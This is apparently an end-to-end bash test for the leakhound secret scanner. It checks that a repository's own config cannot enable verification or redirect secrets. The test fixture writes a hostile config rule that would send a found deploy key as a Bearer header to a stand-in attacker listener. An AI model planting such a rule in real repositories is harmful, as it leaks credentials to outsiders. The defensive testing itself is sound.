#!/usr/bin/env bash
# Verification safety end to end (docs/verify.md, "Safety"): a scanned
# repository's own .leakhound.toml can neither turn verification on nor choose
# where secrets are sent; staged mode verifies only on --verify. A loopback
# stand-in for GitHub (tests/verify/fake_providers.py) logs every request, and
# a bare TCP listener stands in for an attacker's host: it logs every
# connection, so a secret on its way there (TLS or not) is caught. Last, an
# https stand-in whose certificate comes from a throwaway CA: trusted with
# --verify-ca-file (or LEAKHOUND_VERIFY_CA_FILE) only.
source "$(dirname "$0")/lib.sh"

FAKE="$SOURCE_DIR/tests/verify/fake_providers.py"
GH_LIVE=$(github_token 11)
printf '{"live": ["%s"]}\n' "$GH_LIVE" >"$TMP/tokens.json"

PIDS=()
# shellcheck disable=SC2016  # PIDS is expanded at exit
on_exit 'for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null; done'
wait_port() {  # FILE
  for _ in $(seq 100); do [[ -s "$1" ]] && return 0; sleep 0.1; done
  die "server did not start ($1)"
}
python3 "$FAKE" --tokens "$TMP/tokens.json" --log "$TMP/github.log" --port-file "$TMP/github.port" &
PIDS+=($!)
wait_port "$TMP/github.port"
touch "$TMP/github.log"
export LEAKHOUND_VERIFY_BASE_URL_GITHUB="http://127.0.0.1:$(cat "$TMP/github.port")/github"

# The attacker's host: accepts, logs, hangs up.
python3 - "$TMP/attacker.port" "$TMP/attacker.log" <<'PY' &
import socket, sys
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(16)
open(sys.argv[1], "w").write(str(s.getsockname()[1]))
while True:
    c, _ = s.accept()
    with open(sys.argv[2], "a") as f:
        f.write("connection\n")
    c.close()
PY
PIDS+=($!)
wait_port "$TMP/attacker.port"
touch "$TMP/attacker.log"
EVIL="https://127.0.0.1:$(cat "$TMP/attacker.port")"

# A repository whose own configuration turns verification on and adds a rule
# that would send GitHub tokens to the attacker's host.
REPO="$TMP/repo"
mkdir -p "$REPO"
cat >"$REPO/.leakhound.toml" <<TOML
[verify]
enabled = true

[[rule]]
id = "evil.token"
description = "deploy key, 'verified' by the attacker"
regex = 'DEPLOY_KEY=(dk_[a-z0-9]{24})'
secret_group = 1
[rule.verify]
name = "evil"
base_url = "$EVIL"
path = "/collect"
headers = { Authorization = "Bearer {{secret}}" }
live = { status = 200 }
TOML
printf 'GITHUB_TOKEN=%s\nDEPLOY_KEY=dk_%s\n' "$GH_LIVE" "$(printf 'q7x2m9k4w1z8c5v3b6n0p2r4' )" >"$REPO/app.env"
verdicts() { json_eval "$TMP/r.json" "sorted({f['rule_id'] + ':' + f.get('verification', {}).get('verdict', 'unverified') for f in d['findings']})"; }
# contacted NAME: GitHub /user requests (one per verification) or attacker connections.
contacted() { grep -c -e '"path": "/github/user"' -e '^connection$' "$TMP/$1.log"; }

# 1. A plain scan: the repository's `enabled = true` is ignored with a note.
run_lh scan "$REPO" -f json -o "$TMP/r.json"
expect_eq "$RC" "1" "findings reported"
expect_contains "$ERR" "note: $REPO/.leakhound.toml: [verify] enabled is ignored in an auto-discovered configuration" "note on the ignored setting"
expect_eq "$(verdicts)" "['evil.token:unverified', 'github.pat.classic:unverified']" "nothing verified"
expect_eq "$(contacted github)" "0" "GitHub not contacted without --verify"
expect_eq "$(contacted attacker)" "0" "attacker not contacted"

# 2. --verify: the built-in verifier runs; the repository's [rule.verify] does not.
run_lh scan "$REPO" --verify -f json -o "$TMP/r.json"
expect_contains "$ERR" "ignoring the verifiers of 1 rule (evil.token) from an auto-discovered configuration" "warning on the ignored verifier"
expect_eq "$(verdicts)" "['evil.token:unverified', 'github.pat.classic:live']" "only the built-in verifier ran"
expect_eq "$(contacted github)" "1" "GitHub contacted once"
expect_eq "$(contacted attacker)" "0" "attacker still not contacted"
run_lh scan "$REPO" --verify-dry-run
expect_not_contains "$ERR" "$EVIL" "dry run does not list the repository's endpoint"

# 3. The same file given with --config is trusted: its verifier is listed
# (dry run: contacts nothing) and its `enabled` turns verification on.
run_lh scan "$REPO" --config "$REPO/.leakhound.toml" --verify-dry-run
expect_contains "$ERR" "GET $EVIL/collect" "explicit --config: its verifier is used"
expect_eq "$(contacted attacker)" "0" "dry run contacted nothing"
cat >"$TMP/mine.toml" <<'TOML'
[verify]
enabled = true
TOML
: >"$TMP/github.log"
run_lh scan "$REPO" --config "$TMP/mine.toml" -f json -o "$TMP/r.json"
expect_not_contains "$ERR" "is ignored" "no note for an explicit configuration"
expect_eq "$(json_eval "$TMP/r.json" "d['findings'][0]['verification']['verdict']")" "live" "explicit [verify] enabled verifies"
expect_eq "$(contacted github)" "1" "GitHub contacted"

# 4. staged (pre-commit) ignores [verify] enabled, even from --config; --verify verifies.
git -C "$REPO" init -q
git -C "$REPO" add app.env
: >"$TMP/github.log"
run_lh staged "$REPO" --config "$TMP/mine.toml" -f json -o "$TMP/r.json"
expect_eq "$RC" "1" "staged finds the token"
expect_eq "$(json_eval "$TMP/r.json" "'verification' in d['findings'][0]")" "False" "staged: [verify] enabled does not verify"
expect_eq "$(contacted github)" "0" "staged: nothing contacted"
run_lh staged "$REPO" --config "$TMP/mine.toml" --verify -f json -o "$TMP/r.json"
expect_eq "$(json_eval "$TMP/r.json" "d['findings'][0]['verification']['verdict']")" "live" "staged --verify verifies"

# 5. https to a host with a private CA: --verify-ca-file FILE (or
# LEAKHOUND_VERIFY_CA_FILE) trusts it; without it the certificate is refused.
CA="$TMP/ca"
mkdir -p "$CA"
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$CA/ca.key" -out "$CA/ca.pem" -days 2 \
  -subj "/CN=leakhound test CA" -addext "basicConstraints=critical,CA:TRUE" \
  -addext "keyUsage=critical,keyCertSign,cRLSign" 2>/dev/null
openssl req -newkey rsa:2048 -nodes -keyout "$CA/server.key" -out "$CA/server.csr" \
  -subj "/CN=localhost" 2>/dev/null
printf 'subjectAltName=IP:127.0.0.1,DNS:localhost\nextendedKeyUsage=serverAuth\n' >"$CA/ext.cnf"
openssl x509 -req -in "$CA/server.csr" -CA "$CA/ca.pem" -CAkey "$CA/ca.key" -CAcreateserial \
  -out "$CA/server.pem" -days 2 -extfile "$CA/ext.cnf" 2>/dev/null
[[ -s "$CA/server.pem" ]] || die "openssl could not make the test certificates"
python3 "$FAKE" --tokens "$TMP/tokens.json" --log "$TMP/tls.log" --port-file "$TMP/tls.port" \
  --tls-cert "$CA/server.pem" --tls-key "$CA/server.key" &
PIDS+=($!)
wait_port "$TMP/tls.port"
touch "$TMP/tls.log"
TLS="https://127.0.0.1:$(cat "$TMP/tls.port")/github"
SRC="$TMP/tls-src"
mkdir -p "$SRC"
printf 'GITHUB_TOKEN=%s\n' "$GH_LIVE" >"$SRC/app.env"
gh() { json_eval "$TMP/r.json" "next(f['verification']$1 for f in d['findings'] if f['rule_id']=='github.pat.classic')"; }
run_lh scan "$SRC" --no-config --verify --verify-base-url "github=$TLS" --verify-ca-file "$CA/ca.pem" -f json -o "$TMP/r.json"
expect_eq "$(gh "['verdict']")" "live" "https with --verify-ca-file is live"
expect_eq "$(gh "['identity']['login']")" "octo" "https: identity"
expect_eq "$(contacted tls)" "1" "https server answered once"
LEAKHOUND_VERIFY_CA_FILE="$CA/ca.pem" run_lh scan "$SRC" --no-config --verify --verify-base-url "github=$TLS" -f json -o "$TMP/r.json"
expect_eq "$(gh "['verdict']")" "live" "https with LEAKHOUND_VERIFY_CA_FILE is live"
run_lh scan "$SRC" --no-config --verify --verify-base-url "github=$TLS" -f json -o "$TMP/r.json"
expect_eq "$(gh "['verdict']")" "unknown" "https without the CA: unknown"
expect_contains "$(gh "['reason']")" "certificate" "https without the CA: certificate problem"
expect_eq "$(contacted tls)" "2" "no request got through without the CA"
run_lh scan "$SRC" --no-config --verify --verify-ca-file "$TMP/missing.pem"
expect_eq "$RC" "2" "--verify-ca-file must exist"
finish
